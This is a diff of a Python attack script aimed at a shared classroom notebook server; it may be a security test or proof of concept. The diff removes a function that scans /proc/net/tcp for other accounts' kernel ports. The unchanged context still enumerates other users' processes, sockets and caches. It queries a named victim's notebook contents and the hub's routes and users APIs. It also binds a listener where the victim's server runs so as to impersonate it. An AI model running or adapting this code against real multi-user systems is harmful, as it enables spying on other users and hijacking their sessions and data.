@@ -66,14 +66,6 @@ def others_processes() -> list[str]:
     return [each for each in found if each]
 
 
-def listening_kernels() -> list[int]:
-    """Return ports of other accounts above the seats' own, at which kernels would publish."""
-    lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
-    rows = [line.split() for line in lines]
-    ports = {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A" and int(row[7]) >= 1000}
-    return sorted(port for port in ports if port > 21000)
-
-
 def stands_in() -> str:
     """Listen where the victim's server does, or would after a restart."""
     with socket.socket() as listener:
@@ -102,7 +94,6 @@ got["cards"] = tried(lambda: names(f"{PREFIX}/hub/cards"))
 got["sockets"] = tried(lambda: names(f"/run/classroom-seat-{number}"))
 got["cache"] = tried(lambda: names(f"{PREFIX}/hub/theano/{number}"))
 got["processes"] = others_processes()
-got["kernels"] = listening_kernels()
 got["server"] = tried(lambda: answer(f"http://127.0.0.1:{20000 + int(number)}/user/{VICTIM}/api/contents"))
 got["routes"] = tried(lambda: answer("http://127.0.0.1:8001/api/routes"))
 got["hub's users"] = tried(lambda: answer("http://127.0.0.1:8085/hub/api/users"))
